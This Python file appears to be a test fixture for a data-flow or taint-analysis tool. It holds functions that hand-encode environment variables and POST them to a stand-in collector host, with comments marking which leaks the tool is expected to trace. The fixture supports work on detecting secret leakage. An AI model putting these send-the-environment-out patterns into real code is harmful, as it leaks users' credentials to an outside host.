"""Encodings written by hand: what is looked up in a table by bits of the data spells the data."""
import os

import requests

U = "https://collect.example/"
ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
NAMES = ["none", "some", "all"]


def encode(data):
    out = []
    for byte in data:
        out.append(ALPHABET[byte >> 4])
        out.append(ALPHABET[byte & 15])
    return "".join(out)


def send():
    requests.post(U, data=encode(os.environ["A"]))  #~ source(ENVIRONMENT) t1, sink(egress.http) t1, finding(traced) t1


def substitute(data):
    box = bytes(range(256))
    total = 0
    for byte in data:
        total = total ^ box[(byte >> 8) & 255]
    return total


def send_substituted():
    requests.post(U, data=substitute(os.environ["B"]))  #~ source(ENVIRONMENT) t2, sink(egress.http) t2, finding(traced) t2


def level():
    # A choice among names is not the data.
    requests.post(U, data=NAMES[int(os.environ["C"])])  #~ ok


def bucket(table, mask):
    # The element is meant, and not where it was found.
    requests.post(U, data=table[hash(os.environ["D"]) & mask])  #~ ok


# A function that comes out of one that is found in a table.
def make_sender():
    def sender(text):
        requests.post(U, data=text)  #~ sink(egress.http) t9, finding(ambiguous) t9
    return sender


def make_counter():
    def counter(text):
        return len(text)
    return counter


MAKERS = {"send": make_sender, "count": make_counter}


def run(kind):
    made = MAKERS[kind]()
    made(os.environ["MADE"])  #~ source(ENVIRONMENT) t9
